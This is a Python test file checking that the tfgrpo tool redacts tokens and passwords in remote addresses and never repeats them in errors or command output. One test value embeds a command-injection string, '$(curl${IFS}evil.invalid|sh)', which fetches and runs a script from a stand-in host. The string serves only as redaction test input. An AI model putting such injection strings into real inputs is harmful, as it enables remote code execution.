"""Addresses that users give: no secret in one is kept or repeated, none ends in a traceback."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from conftest import Cli

import tfgrpo
from tfgrpo.store.errors import BadLocation, TfgrpoError, hide_secrets
from tfgrpo.store.store import Store
from tfgrpo.store.transfer import locations
from tfgrpo.store.transfer.remotes import Remotes
from tfgrpo.trust.permissions import of_proxy, of_remote

HIDDEN = "hunter2"
REFUSED = (
    f"ssh://far/p?token={HIDDEN}",
    f"SSH://ada@far:22/p?{HIDDEN}",
    f"ssh://far/p#{HIDDEN}",
    f"far:p?token={HIDDEN}",
    f"ada@far:~/p?a=1&key={HIDDEN}",
    f"https:/far/p?token={HIDDEN}",
)
"""Locations over ssh with a query, which ssh has no use for."""


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return Store.init(tmp_path / ".tfgrpo" / "store.db")


@pytest.mark.parametrize("location", REFUSED)
def test_a_location_with_a_query_is_refused_and_not_repeated(location: str, store: Store) -> None:
    for use in (locations.parse, lambda text: Remotes(store).add("far", text)):
        with pytest.raises(BadLocation, match="query") as caught:
            use(location)
        assert HIDDEN not in f"{caught.value}{caught.value.hint}"
    assert Remotes(store).all() == {}


def test_a_path_with_the_signs_of_a_query_is_a_location(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert locations.parse("team?a=1").path == str(tmp_path / "team?a=1")
    assert locations.parse("ssh://far/team%3Fa=1").path == "/team?a=1"
    assert locations.parse("far:what?").path == "what?"


@pytest.mark.parametrize("name", ["token", "password", "api_key", "oauth_client_secret", "sig"])
def test_a_database_is_recorded_without_what_is_called_like_a_secret(
    name: str, store: Store
) -> None:
    location = f"postgresql://ada@db.invalid/team?library=web&sslmode=require&{name}={HIDDEN}"
    shown = "postgresql://ada@db.invalid/team?sslmode=require&library=web"
    assert locations.parse(location).text == shown
    Remotes(store).add("db", location)
    assert Remotes(store).all() == {"db": shown}


def test_a_query_that_an_older_record_has_is_neither_shown_nor_used(
    store: Store, tmp_path: Path, cli: Cli
) -> None:
    with store.port.transaction():
        store.port.names.put_remote("far", f"ssh://ada@far/p?token={HIDDEN}")
    assert Remotes(store).location("far") == "ssh://ada@far/p"
    store.close()
    for command in ("remote list", "remote list --json", "trust --show", "remote add far x"):
        done = cli(*command.split(), ok=False)
        assert HIDDEN not in done.stdout + done.stderr
        assert "far/p" in done.stdout + done.stderr
    listed = json.loads(cli("remote", "list", "--json").stdout)
    assert listed["far"]["location"] == "ssh://ada@far/p"
    assert f"from {listed['far']['location']} to" in cli("remote", "set-url", "far", "y").stdout


def test_what_a_folder_is_trusted_with_is_told_without_secrets_and_whole_otherwise(
    tmp_path: Path,
) -> None:
    url = f"https://host.invalid/v1?api-version=2&token={HIDDEN}"
    told = of_proxy(tmp_path / "proxy.toml", {"upstream": url, "webhook": f"{url}&to=a@b.c"}).words
    assert all(HIDDEN not in line and "api-version=2&token=***" in line for line in told)
    assert "to=a@b.c" in told[-1]
    assert HIDDEN not in str(of_remote(tmp_path, "far", f"ssh://far/p?token={HIDDEN}").words)
    hiding = "http://host.invalid/?token=$(curl${IFS}evil.invalid|sh)"
    assert hide_secrets(hiding) == hiding


@pytest.mark.parametrize(
    "text",
    [
        f"mysql://ada:{HIDDEN}@db.invalid/team",
        f"http://host.invalid/p?Access-Token={HIDDEN}",
        f"file:///p?a=1&password={HIDDEN}",
        f"https://host.invalid/#access_token={HIDDEN}&x=1",
        f"host:p?api_key={HIDDEN}%2F==",
    ],
)
def test_no_error_repeats_a_secret_of_an_address(text: str) -> None:
    assert HIDDEN not in str(TfgrpoError(f"no file {text} is there"))
    with pytest.raises(TfgrpoError) as caught:
        tfgrpo.evaluate_sync("p.jsonl", store=text)
    assert HIDDEN not in f"{caught.value}{caught.value.hint}"


@pytest.mark.parametrize(
    "command",
    [
        "clone {}",
        "fetch {}",
        "remote add far {}",
        "--store {} log",
        "import {}",
        "init --from {}",
        "eval {} --model m",
        "workers list {}",
        "bundle verify {}",
        "proxy --port 0 --upstream {}",
    ],
)
def test_no_command_repeats_a_secret_of_an_address(command: str, cli: Cli) -> None:
    cli("init")
    done = cli(*command.format(f"ssh://far/p?token={HIDDEN}").split(), ok=False)
    assert done.returncode
    assert "Traceback" not in done.stderr
    assert HIDDEN not in done.stdout + done.stderr
